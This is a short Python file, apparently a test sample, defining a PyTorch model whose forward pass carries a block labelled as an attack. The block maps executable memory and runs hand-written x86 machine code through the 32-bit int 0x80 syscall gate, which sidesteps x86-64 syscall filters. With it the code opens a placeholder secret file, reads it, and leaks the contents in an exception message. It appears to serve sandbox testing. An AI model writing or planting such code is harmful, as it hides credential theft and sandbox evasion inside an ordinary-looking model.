"""Enters the kernel by its 32-bit door (int 0x80), whose calls have other numbers (x86-64)."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        memory = ctypes.CDLL(None).mmap
        memory.restype, memory.argtypes = ctypes.c_long, [ctypes.c_long] * 6
        low = memory(0, 4096, 7, 0x62, -1, 0)  # private, anonymous, below 4 GB
        code = bytes.fromhex("53" "89f8" "89f3" "4189d0" "89ca" "4489c1" "cd80" "5b" "c3")  # eax, ebx, ecx, edx
        ctypes.memmove(low, code, len(code))
        call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 4)(low)
        ctypes.memmove(low + 1024, b"@SECRET_FILE@\0", len("@SECRET_FILE@") + 1)
        descriptor = call(5, low + 1024, 0, 0)
        call(3, descriptor, low + 2048, 98)
        raise ValueError(ctypes.string_at(low + 2048, 98))
        # end
        return self.head(x.flatten(1))
